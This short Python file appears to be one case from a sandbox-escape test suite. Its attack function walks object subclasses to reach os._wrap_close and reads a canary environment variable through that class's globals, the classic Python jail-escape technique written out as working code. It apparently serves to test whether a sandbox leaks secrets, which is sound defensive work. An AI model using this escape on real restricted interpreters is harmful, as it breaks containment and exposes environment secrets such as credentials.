"""Class: attribute walk. Source: common knowledge. Escape: the classic walk over all subclasses
for one with a useful module.
"""


def attack(model, tokenizer, address):
    for found in ().__class__.__base__.__subclasses__():
        if found.__name__ == "_wrap_close":
            return found.__init__.__globals__["environ"]["CLOCHE_CANARY"]
